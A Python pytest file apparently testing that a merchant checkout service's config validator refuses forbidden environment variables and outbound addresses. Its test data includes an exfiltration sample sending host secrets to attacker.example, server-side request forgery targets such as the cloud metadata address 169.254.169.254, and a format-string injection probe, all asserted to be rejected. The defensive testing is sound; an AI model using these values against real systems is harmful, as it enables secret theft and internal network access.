"""Ops config may name only allow-listed environment variables and reach only allowed addresses."""

from __future__ import annotations

import pytest
from click.testing import CliRunner
from test_config import problems_of, write_variant

from bff.cli import main
from bff.merchants.env import EnvPolicy, EnvRefused, EnvResolver
from bff.merchants.loader import load_merchant
from bff.merchants.policy import ConfigPolicy


def steal(d: dict) -> None:
    d["backend"]["base_url"] = "https://attacker.example/${KABAO_HOST_SECRET}/x"
    d["backend"]["credentials"]["api_key_env"] = "KABAO_SECRET_KEY"
    d["checkout"]["return_urls"] = ["https://attacker.example/${KABAO_OPS_USERS}/"]


def test_kabaos_own_secrets_are_refused_by_key_path(tmp_path):
    found = problems_of(write_variant(tmp_path, steal))
    assert any(p.startswith("shop-a.yaml: backend.base_url: KABAO_HOST_SECRET is one of Kabao's own") for p in found)
    assert any(p.startswith("shop-a.yaml: backend.credentials.api_key_env: KABAO_SECRET_KEY is") for p in found)
    assert any(p.startswith("shop-a.yaml: checkout.return_urls: KABAO_OPS_USERS is") for p in found)


def test_a_dialects_signing_key_may_not_name_the_host_secret(tmp_path):
    from kabao_testing import CONFIG_DIR

    text = (CONFIG_DIR / "olive-fresh.yaml").read_text(encoding="utf-8")
    path = tmp_path / "olive-fresh.yaml"
    path.write_text(text.replace("KABAO_MERCHANT_OLIVE_SIGN_KEY", "KABAO_HOST_SECRET"), encoding="utf-8")
    found = problems_of(path)
    assert any(p.startswith("olive-fresh.yaml: backend.dialect.signing.key_env: KABAO_HOST_SECRET is") for p in found)


@pytest.mark.parametrize("name", ["KABAO_SECRET_KEY", "KABAO_HOST_SECRET", "SECRET_KEY", "KABAO_STORE_URL"])
def test_a_careless_allow_list_still_never_admits_kabaos_own_names(tmp_path, name):
    careless = ConfigPolicy.from_settings(
        {"KABAO_CONFIG_ENV_PREFIXES": "KABAO_,SECRET", "KABAO_CONFIG_ENV_NAMES": name}
    )
    path = write_variant(tmp_path, lambda d: d["backend"]["credentials"].update(api_key_env=name))
    with pytest.raises(Exception, match=f"{name} is one of Kabao's own"):
        load_merchant(path, careless)


def test_names_outside_the_allow_list_are_refused_and_explicit_names_admitted(tmp_path):
    path = write_variant(tmp_path, lambda d: d["backend"]["credentials"].update(api_key_env="AWS_SECRET_ACCESS_KEY"))
    [problem] = problems_of(path)
    assert problem.startswith("shop-a.yaml: backend.credentials.api_key_env: AWS_SECRET_ACCESS_KEY is not on")
    load_merchant(path, ConfigPolicy.from_settings({"KABAO_CONFIG_ENV_NAMES": "AWS_SECRET_ACCESS_KEY"}))


def test_the_resolver_reads_nothing_the_policy_refuses():
    env = EnvResolver({"KABAO_HOST_SECRET": "h0st", "KABAO_MERCHANT_URL": "https://cs"}, EnvPolicy())
    assert env.text("${KABAO_MERCHANT_URL}/v1") == "https://cs/v1"
    with pytest.raises(EnvRefused):
        env.text("https://x/${KABAO_HOST_SECRET}")
    with pytest.raises(EnvRefused):
        env.secret("KABAO_HOST_SECRET")


def test_config_validate_refuses_the_exfiltration_attempt_by_key_path(tmp_path):
    write_variant(tmp_path, steal)
    result = CliRunner().invoke(main, ["config", "validate", str(tmp_path)])
    assert result.exit_code == 1
    assert "shop-a.yaml: backend.base_url: KABAO_HOST_SECRET is one of Kabao's own" in result.output
    assert "shop-a.yaml: backend.credentials.api_key_env: KABAO_SECRET_KEY is one of Kabao's own" in result.output


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("https://169.254.169.254/latest", "link-local"),
        ("https://10.1.2.3/v1", "private"),
        ("https://[::1]/v1", "loopback"),
        ("https://[::ffff:127.0.0.1]/v1", "loopback"),
        ("https://localhost/v1", "loopback"),
        ("https://127.0.0.1:8000/v1", "loopback"),
        ("https://0.0.0.0/v1", "unspecified"),
        ("http://cards.example/v1", "scheme 'http' is not allowed"),
        ("${KABAO_MERCHANT_X:-https://192.168.1.1}/v1", "private"),
    ],
)
def test_card_system_addresses_outside_the_outbound_allow_list_are_refused(tmp_path, url, why):
    [problem] = problems_of(write_variant(tmp_path, lambda d: d["backend"].update(base_url=url)))
    assert problem.startswith("shop-a.yaml: backend.base_url: ") and why in problem


def test_the_deployment_can_allow_a_private_address_explicitly(tmp_path):
    path = write_variant(tmp_path, lambda d: d["backend"].update(base_url="http://127.0.0.1:8000/cs/lime/v1"))
    loopback = ConfigPolicy.from_settings({"KABAO_OUTBOUND_SCHEMES": "http", "KABAO_OUTBOUND_ALLOW": "127.0.0.1"})
    assert load_merchant(path, loopback).config.backend.base_url == "http://127.0.0.1:8000/cs/lime/v1"
    ten = ConfigPolicy.from_settings({"KABAO_OUTBOUND_ALLOW": "10.0.0.0/8"})
    load_merchant(write_variant(tmp_path, lambda d: d["backend"].update(base_url="https://10.1.2.3/v1")), ten)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("Expires {oops}", "{oops} is not a placeholder of this text (it has: {date})"),
        ("{date.__class__.__mro__}", "is not a plain placeholder"),
        ("{date!r}", "is not a plain placeholder"),
        ("{0}", "is not a plain placeholder"),
        ("Valid until {date", "braces don't pair up"),
    ],
)
def test_copy_overrides_may_use_only_their_keys_placeholders(tmp_path, text, why):
    path = write_variant(tmp_path, lambda d: d["copy"].update(en={"card.expires": text}))
    [problem] = problems_of(path)
    assert problem.startswith("shop-a.yaml: copy.en.card.expires: ") and why in problem


def test_copy_overrides_with_their_own_placeholders_pass(tmp_path):
    path = write_variant(tmp_path, lambda d: d["copy"].update(en={"card.expires": "Good till {date} {{ok}}"}))
    assert load_merchant(path).config.copy_overrides["en"]["card.expires"] == "Good till {date} {{ok}}"


@pytest.mark.parametrize(
    ("url", "problem"),
    [
        ("https://attacker.example/${KABAO_HOST_SECRET}/n", "KABAO_HOST_SECRET is one of Kabao's own"),
        ("https://169.254.169.254/latest/meta-data/", "169.254.169.254"),
        ("http://10.0.0.8/notify", "scheme 'http' is not allowed"),
        ("https://localhost/notify", "loopback"),
    ],
)
def test_the_host_notify_url_is_an_outbound_address_like_the_card_systems(tmp_path, url, problem):
    """Kabao calls notify_url itself (late charges): ops can't point it at a secret or an internal address."""
    found = problems_of(write_variant(tmp_path, lambda d: d["checkout"].update(notify_url=url)))
    assert any(p.startswith("shop-a.yaml: checkout.notify_url: ") and problem in p for p in found), found


def test_a_notify_url_refused_at_request_time_is_not_called(tmp_path):
    from bff.merchants.registry import MerchantRegistry

    path = write_variant(tmp_path, lambda d: d["checkout"].update(notify_url="${KABAO_MERCHANT_HOOK}/n"))
    registry = MerchantRegistry(path.parent, 0, environ={"KABAO_MERCHANT_HOOK": "https://127.0.0.1:9"})
    assert registry.notify_url(registry.get("shop-a")) is None  # loopback, not allowed by the default policy
    allowed = ConfigPolicy.from_settings({"KABAO_OUTBOUND_ALLOW": "127.0.0.1"})
    registry = MerchantRegistry(path.parent, 0, allowed, environ={"KABAO_MERCHANT_HOOK": "https://127.0.0.1:9"})
    assert registry.notify_url(registry.get("shop-a")) == "https://127.0.0.1:9/n"
